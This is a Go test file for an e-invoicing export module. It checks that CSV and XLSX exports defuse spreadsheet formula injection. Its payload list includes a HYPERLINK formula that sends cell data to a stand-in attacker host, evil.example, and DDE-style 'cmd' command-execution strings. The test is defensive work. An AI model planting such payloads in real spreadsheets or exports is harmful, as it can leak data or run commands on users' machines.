package export_test

import (
	"bytes"
	"encoding/json"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"
	"github.com/xuri/excelize/v2"

	"github.com/efactura-gateway/efactura/internal/export"
	"github.com/efactura-gateway/efactura/internal/invoice"
	"github.com/efactura-gateway/efactura/internal/store"
)

// formulaPayloads are cell values a spreadsheet would run as a formula or
// command (OWASP "CSV injection"): every trigger character, plus a tab and
// a carriage return that some spreadsheets strip before looking.
var formulaPayloads = []string{
	`=HYPERLINK("http://evil.example/?x="&A1,"click")`,
	`+cmd|' /C calc'!A0`,
	`-2+3+cmd|' /C calc'!A0`,
	`@SUM(1+1)*cmd|' /C calc'!A0`,
	"\t=1+1",
	"\r=1+1",
}

// hostileRows puts payload in every text field an invoice (and its lines)
// brings from the other party, and in the dates and amounts too (a
// document the parser kept as written).
func hostileRows(t *testing.T, payload string) []store.Invoice {
	t.Helper()
	lines, err := json.Marshal(invoice.Invoice{
		TaxCurrency: "RON",
		Totals:      invoice.Totals{TaxExclusive: payload, VATTaxCurrency: payload},
		VATBreakdown: []invoice.VATSubtotal{
			{Rate: payload, TaxableAmount: payload, TaxAmount: payload},
			{Rate: "21", TaxableAmount: payload, TaxAmount: payload},
			{Rate: "0", TaxableAmount: payload},
		},
		PaymentMeans: []invoice.PaymentMeans{{IBAN: payload}},
		Lines: []invoice.Line{{
			ID: payload, Name: payload, Description: payload, SellerItemID: payload,
			Quantity: payload, UnitCode: payload, Price: payload, NetAmount: payload, VATCategory: payload, VATRate: payload,
		}}})
	require.NoError(t, err)
	return []store.Invoice{{
		ID: 7, ANAFID: payload, MessageType: payload, DocumentType: payload, InvoiceNumber: payload,
		IssueDate: payload, DueDate: payload, IssuerName: payload, SupplierCIF: payload,
		ReceiverName: payload, CIFBeneficiar: payload, Currency: payload,
		TotalAmount: payload, VATAmount: payload, SyncedAt: synced, ParsedJSON: lines,
	}}
}

// derived are the columns whose value the export computes rather than
// copies (the document type's label; VAT by rate from the breakdown, the
// exchange rate from two amounts), empty or not the payload.
var derived = map[string]bool{"document_type": true, "exchange_rate": true}

// TestCSVFormulaInjection: in both CSV exports (web and API use
// export.Write), no cell of an invoice or line row starts with = + - @,
// a tab or a carriage return, whichever field carries the payload; the
// value is kept, behind an apostrophe. Negative amounts stay numbers.
func TestCSVFormulaInjection(t *testing.T) {
	t.Parallel()
	for _, format := range []string{"csv", "csv-ro"} {
		read := readCSV
		if format == "csv-ro" {
			read = readCSVExcelRO
		}
		for _, payload := range formulaPayloads {
			for _, opts := range []export.Options{{}, {Lines: true, Lang: "en"}} {
				var buf bytes.Buffer
				require.NoError(t, export.Write(&buf, format, hostileRows(t, payload), opts))
				recs := read(t, buf.Bytes())
				require.Len(t, recs, 2)
				keys := export.Keys(opts)
				cells := 0
				for i, v := range recs[1] {
					if v == "" || keys[i] == "id" || keys[i] == "synced_at" || derived[keys[i]] {
						continue // the local id, the sync time, computed values
					}
					cells++
					require.False(t, strings.ContainsRune("=+-@\t\r", rune(v[0])),
						"%s: column %q starts a formula: %q", format, recs[0][i], v)
					// The masked CIF/CNP columns keep only part of the value.
					if !strings.Contains(recs[0][i], "CIF") {
						require.Contains(t, []string{"'" + payload, "'" + strings.TrimSpace(payload)}, v,
							"%s: column %q keeps the text (amounts trimmed) behind an apostrophe", format, recs[0][i])
					}
				}
				// Every column but the id, the sync time, the computed ones
				// and the fixed-rate VAT columns other than 21% and 0%.
				skipped := 2 + len(derived)
				if !opts.Lines {
					skipped += 2 * (len(export.VATRates) - 1)
				}
				require.GreaterOrEqual(t, cells, len(keys)-skipped, "%s: every column was tried", format)
			}
		}

		rows := sample(t)
		var buf bytes.Buffer
		require.NoError(t, export.Write(&buf, format, rows, export.Options{}))
		got := byKey(t, export.Options{}, read(t, buf.Bytes()))
		mark := map[string]string{"csv": ".", "csv-ro": ","}[format]
		require.Equal(t, "-5"+mark+"10", got[1]["total_amount"], "a negative amount is a number, not defused")
		require.Equal(t, "-238"+mark+"00", got[2]["total_amount"], "a credit note's total is a negative number")
	}
}

// TestXLSXFormulaInjection: in the XLSX export the same payloads are
// text cells (inline or shared strings), never formulas.
func TestXLSXFormulaInjection(t *testing.T) {
	t.Parallel()
	for _, payload := range formulaPayloads {
		var buf bytes.Buffer
		require.NoError(t, export.Write(&buf, "xlsx", hostileRows(t, payload), export.Options{Lines: true}))
		f, sheet := openXLSX(t, buf.Bytes())
		rows, err := f.GetRows(sheet)
		require.NoError(t, err)
		require.Len(t, rows, 2)
		for col := range rows[1] {
			name, err := excelize.CoordinatesToCellName(col+1, 2)
			require.NoError(t, err)
			formula, err := f.GetCellFormula(sheet, name)
			require.NoError(t, err)
			require.Empty(t, formula, "cell %s", name)
			typ, err := f.GetCellType(sheet, name)
			require.NoError(t, err)
			if rows[1][col] != "" && col != 0 && col != 14 {
				require.Contains(t, []excelize.CellType{excelize.CellTypeInlineString, excelize.CellTypeSharedString}, typ,
					"cell %s (%q) is text", name, rows[1][col])
			}
		}
	}
}
